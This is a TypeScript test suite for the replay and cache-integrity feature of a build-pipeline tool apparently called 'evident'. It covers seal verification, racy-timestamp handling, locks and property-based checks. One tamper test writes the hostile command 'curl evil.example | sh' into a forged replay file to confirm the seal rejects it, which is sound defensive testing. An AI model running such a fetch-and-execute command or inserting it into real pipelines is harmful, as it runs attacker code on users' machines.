import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { attestationObservers, loadSpec, parseReceiptText, provenanceFile, runPipeline, tryReplay, verifyReceiptFile, type RunOptions } from '../../src/pipeline/index.js';
import { write } from './runner-helpers.js';
import { tempDir } from '../helpers/engines.js';
import { Sealer } from '../../src/pipeline/seal.js';

// Replaying an unchanged run (src/pipeline/replay.ts): it happens only when a full run would have been
// all cache hits restoring nothing, and it then leaves what that run would (receipt, LRU times).

const SPEC = `version: "0.1"
name: replay
steps:
  a: { run: "mkdir -p out && cat src/*.txt > out/a.txt", inputs: [src/], outputs: [out/a.txt] }
  b: { run: "cat out/a.txt out/a.txt > out/b.txt", inputs: [out/a.txt, "conf/**/*.cfg"], outputs: [out/b.txt], needs: [a] }
  c: { run: "mkdir -p dist && echo c > dist/c.txt", outputs: [dist/] }
`;

const HOUR = 3_600_000;

/** Every file and directory of the workspace made an hour old: the racy-git margin no longer applies. */
function age(dir: string, when = Date.now() - HOUR): void {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const file = path.join(entry.parentPath, entry.name);
    if (!entry.isSymbolicLink()) fs.utimesSync(file, when / 1000, when / 1000);
  }
}

function setup(spec = SPEC): string {
  const dir = tempDir('evident-replay-');
  write(dir, 'attest.yaml', spec);
  write(dir, 'src/one.txt', 'one\n');
  write(dir, 'src/two.txt', 'two\n');
  write(dir, 'conf/x/y.cfg', 'cfg\n');
  return dir;
}

/** A full run as `evident run` makes it (provenance, unsigned receipt, replay recorded). */
async function fullRun(dir: string, options: Partial<RunOptions> = {}) {
  const observers = await attestationObservers({ workspace: dir, sign: false, provenance: true });
  return runPipeline({ loaded: loadSpec(path.join(dir, 'attest.yaml')), observers, recordReplay: true, jobs: 2, ...options });
}

/** A workspace whose last run can be replayed: built, aged, and run again to record it. */
async function replayable(spec = SPEC): Promise<string> {
  const dir = setup(spec);
  expect((await fullRun(dir)).record.ok).toBe(true);
  age(dir);
  const second = await fullRun(dir);
  expect(second.record.steps.every((s) => s.cache === 'hit')).toBe(true);
  expect(fs.existsSync(replayFile(dir))).toBe(true);
  return dir;
}

const replayFile = (dir: string) => path.join(dir, '.evident/cache/metadata/replay.json');
const attest = (dir: string) => path.join(dir, 'attest.yaml');
const replay = (dir: string) => tryReplay(attest(dir), '0.0.0-test');
const reasonOf = (dir: string) => {
  const r = replay(dir);
  return r.replayed ? 'replayed' : r.reason;
};
const index = (dir: string) => JSON.parse(fs.readFileSync(path.join(dir, '.evident/cache/metadata/index.json'), 'utf8')) as { entries: Record<string, { used: number }> };
const sorted = <T extends { name: string }>(xs: T[]) => [...xs].sort((a, b) => a.name.localeCompare(b.name));

describe('tryReplay', () => {
  it('replays an unchanged run: the same steps, keys and digests as a full warm run, a valid receipt, LRU times updated', async () => {
    const dir = await replayable();
    const before = index(dir);
    const r = replay(dir);
    if (!r.replayed) throw new Error(r.reason);
    const full = await fullRun(dir);
    const strip = (s: { name: string; key: string; command: string; env: object; inputs: object; outputs: object; cache: string; exitCode: number }) =>
      ({ name: s.name, key: s.key, command: s.command, env: s.env, inputs: s.inputs, outputs: s.outputs, cache: s.cache, exitCode: s.exitCode });
    expect(sorted(r.record.steps).map(strip)).toEqual(sorted(full.record.steps).map(strip));
    expect(r.evicted).toBe(0);
    const report = await verifyReceiptFile(r.receiptFile, { workspace: dir, signatures: false });
    expect(report.ok).toBe(true);
    const receipt = parseReceiptText(fs.readFileSync(r.receiptFile, 'utf8')).receipt!;
    expect(receipt.status).toBe('succeeded');
    expect(receipt.steps.map((s) => s.cache)).toEqual(['hit', 'hit', 'hit']);
    for (const [key, e] of Object.entries(index(dir).entries)) expect(e.used).toBeGreaterThanOrEqual(before.entries[key]!.used);
  });

  it('writes nothing when it does not replay', async () => {
    const dir = await replayable();
    write(dir, 'src/one.txt', 'ONE\n');
    const receipts = fs.readdirSync(path.join(dir, '.evident/cache/receipts'));
    const indexText = fs.readFileSync(path.join(dir, '.evident/cache/metadata/index.json'), 'utf8');
    expect(reasonOf(dir)).toMatch(/src\/one\.txt changed/);
    expect(fs.readdirSync(path.join(dir, '.evident/cache/receipts'))).toEqual(receipts);
    expect(fs.readFileSync(path.join(dir, '.evident/cache/metadata/index.json'), 'utf8')).toBe(indexText);
    expect(fs.existsSync(path.join(dir, '.evident/run.lock'))).toBe(false);
  });

  const changes: [string, (dir: string) => void, RegExp][] = [
    ['an input edited (same size)', (d) => write(d, 'src/two.txt', 'TWO\n'), /src\/two\.txt changed/],
    ['a file added to an input directory', (d) => write(d, 'src/three.txt', '3\n'), /^src changed/],
    ['a file matching an input glob added', (d) => write(d, 'conf/z/new.cfg', 'n\n'), /^conf changed/],
    ['an output deleted', (d) => fs.rmSync(path.join(d, 'out/b.txt')), /out\/b\.txt changed/],
    ['a log deleted', (d) => fs.rmSync(path.join(d, '.evident/logs/a.log')), /logs\/a\.log changed/],
    ['a provenance statement edited', (d) => fs.appendFileSync(provenanceFile(d, 'b', 'out/b.txt'), ' '), /intoto\.json changed/],
    ['a cache entry removed', (d) => fs.rmSync(path.join(d, '.evident/cache/metadata/entries'), { recursive: true }), /entries\/[0-9a-f]{64}\.json changed/],
    ['attest.yaml changed', (d) => fs.appendFileSync(attest(d), '\n'), /another attest\.yaml/],
    ['the replay file tampered with', (d) => fs.writeFileSync(replayFile(d), fs.readFileSync(replayFile(d), 'utf8').replace('"v":2', '"v":3')), /seal does not verify/],
    ['the replay file not JSON', (d) => fs.writeFileSync(replayFile(d), '{'), /seal does not verify/],
    ['a planted replay file (a command and a digest changed, the seal dropped)', (d) => {
      const text = fs.readFileSync(replayFile(d), 'utf8');
      const body = text.lastIndexOf('\nevident-seal:') < 0 ? text : text.slice(0, text.lastIndexOf('\nevident-seal:'));
      const data = JSON.parse(body) as { steps: { command: string; outputs: { sha256: string }[] }[] };
      data.steps[0]!.command = 'curl evil.example | sh';
      for (const s of data.steps) for (const o of s.outputs) o.sha256 = 'e'.repeat(64);
      fs.writeFileSync(replayFile(d), JSON.stringify(data));
    }, /seal does not verify/],
    ['a replay file sealed with another key', (d) => {
      const body = Sealer.forWorkspace(d, { create: false })!.open('replay', fs.readFileSync(replayFile(d), 'utf8'))!;
      fs.writeFileSync(replayFile(d), Sealer.fromKey(Buffer.alloc(32, 7)).seal('replay', body));
    }, /seal does not verify/],
    ['an output directory replaced by a link', (d) => {
      fs.renameSync(path.join(d, 'out'), path.join(d, 'elsewhere'));
      fs.symlinkSync(path.join(d, 'elsewhere'), path.join(d, 'out'));
    }, /^out changed/],
  ];
  for (const [what, change, reason] of changes) {
    it(`does not replay after ${what}; the full run then does what it must`, async () => {
      const dir = await replayable();
      change(dir);
      expect(reasonOf(dir)).toMatch(reason);
    });
  }

  it('does not replay when a keyed process variable (pass_env, ${VAR}) changed, nor when a lockfile appeared', async () => {
    const saved = process.env.REPLAY_GREETING;
    try {
      process.env.REPLAY_GREETING = 'alice';
      const dir = await replayable(SPEC.replace('name: replay', 'name: replay\npass_env: [REPLAY_GREETING]'));
      expect(reasonOf(dir)).toBe('replayed');
      process.env.REPLAY_GREETING = 'bob';
      expect(reasonOf(dir)).toBe('the environment variable REPLAY_GREETING changed');
      process.env.REPLAY_GREETING = 'alice';
      expect(reasonOf(dir)).toBe('replayed');
      write(dir, 'package-lock.json', '{}');
      expect(reasonOf(dir)).toMatch(/package-lock\.json changed/);
    } finally {
      if (saved === undefined) delete process.env.REPLAY_GREETING;
      else process.env.REPLAY_GREETING = saved;
    }
  });

  it('replays after a file is added to an output directory, as a full run would hit and leave it there', async () => {
    const dir = await replayable();
    write(dir, 'dist/extra.txt', 'x');
    expect(reasonOf(dir)).toBe('replayed');
    expect((await fullRun(dir)).record.steps.map((s) => s.cache)).toEqual(['hit', 'hit', 'hit']);
    expect(fs.existsSync(path.join(dir, 'dist/extra.txt'))).toBe(true);
  });

  it('does not trust a file modified within two seconds of the run that recorded it (racy git)', async () => {
    const dir = setup();
    await fullRun(dir);
    // Outputs made a moment ago: the memo cannot vouch for them, so nothing is recorded.
    expect(fs.existsSync(replayFile(dir))).toBe(false);
    age(dir);
    await fullRun(dir);
    // Recorded; now an input is rewritten with the same bytes and an mtime just before the recording.
    // (As the holder of the seal key could: the racy rule holds even for a file the runner sealed.)
    const sealer = Sealer.forWorkspace(dir, { create: false })!;
    const data = JSON.parse(sealer.open('replay', fs.readFileSync(replayFile(dir), 'utf8'))!) as { probes: [string, string, string, number | null, number][] };
    const probe = data.probes.find((p) => p[0] === 'src/one.txt')!;
    probe[4] = probe[3]! + 1000;
    fs.writeFileSync(replayFile(dir), sealer.seal('replay', JSON.stringify(data)));
    expect(reasonOf(dir)).toMatch(/src\/one\.txt was modified too close/);
  });

  it('does not replay while another run holds the workspace', async () => {
    const dir = await replayable();
    // The lock of a live process (this test runner): a real second run would wait for it or fail.
    fs.writeFileSync(path.join(dir, '.evident/run.lock'), String(process.ppid));
    expect(reasonOf(dir)).toMatch(/another evident run/);
  });

  it('is not recorded by runs that differ from a plain one, and a full run forgets the last one', async () => {
    const dir = await replayable();
    await fullRun(dir, { only: 'a' });
    expect(fs.existsSync(replayFile(dir))).toBe(false);
    await fullRun(dir);
    expect(fs.existsSync(replayFile(dir))).toBe(true);
    await fullRun(dir, { noCache: true });
    expect(fs.existsSync(replayFile(dir))).toBe(false);
    await fullRun(dir, { recordReplay: false });
    expect(fs.existsSync(replayFile(dir))).toBe(false);
  });

  for (const [what, spec] of [
    ['events handlers', SPEC.replace('steps:', 'events:\n  handlers:\n    - { type: file, path: events.jsonl, events: ["*"] }\nsteps:')],
    ['an uncached step', SPEC.replace('outputs: [dist/] }', 'outputs: [dist/], cache: false }')],
    ['signed receipts', SPEC.replace('steps:', 'attestation: { sign_all_steps: true }\nsteps:')],
  ] as const) {
    it(`is never recorded for a pipeline with ${what}`, async () => {
      const dir = setup(spec);
      await fullRun(dir);
      age(dir);
      expect((await fullRun(dir)).record.ok).toBe(true);
      expect(fs.existsSync(replayFile(dir))).toBe(false);
    });
  }

  it('property: a replay only ever stands for a full run of cache hits that restore nothing', async () => {
    const dir = await replayable();
    const mutations = [
      (d: string) => write(d, 'src/one.txt', 'one\n'), // same bytes, new times
      (d: string) => write(d, 'src/one.txt', 'uno\n'),
      (d: string) => write(d, 'conf/x/y.cfg', 'cfg\n'),
      (d: string) => fs.rmSync(path.join(d, 'out/a.txt'), { force: true }),
      (d: string) => write(d, 'out/b.txt', 'tampered\n'),
      (d: string) => fs.rmSync(provenanceFile(d, 'c', 'dist/c.txt'), { force: true }),
      (d: string) => write(d, 'notes.txt', 'not an input\n'),
      () => undefined,
    ];
    let replayed = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.integer({ min: 0, max: mutations.length - 1 }), { maxLength: 3 }), async (picks) => {
        for (const i of picks) mutations[i]!(dir);
        const outputs = ['out/a.txt', 'out/b.txt', 'dist/c.txt'].map((f) => fs.statSync(path.join(dir, f), { throwIfNoEntry: false })?.ino);
        const r = replay(dir);
        const full = await fullRun(dir);
        if (r.replayed) {
          replayed++;
          expect(full.record.steps.map((s) => s.cache)).toEqual(['hit', 'hit', 'hit']);
          expect(sorted(full.record.steps).map((s) => s.key)).toEqual(sorted(r.record.steps).map((s) => s.key));
          // Restoring would have replaced files (new inodes): nothing was.
          expect(['out/a.txt', 'out/b.txt', 'dist/c.txt'].map((f) => fs.statSync(path.join(dir, f)).ino)).toEqual(outputs);
        } else refused++;
        // Leave a replayable workspace for the next case.
        age(dir);
        await fullRun(dir);
      }),
      { numRuns: 20, examples: [[[]], [[6, 7]], [[0]], [[3, 4]]] },
    );
    // Both sides were exercised.
    expect(replayed).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
  }, 60_000);
});
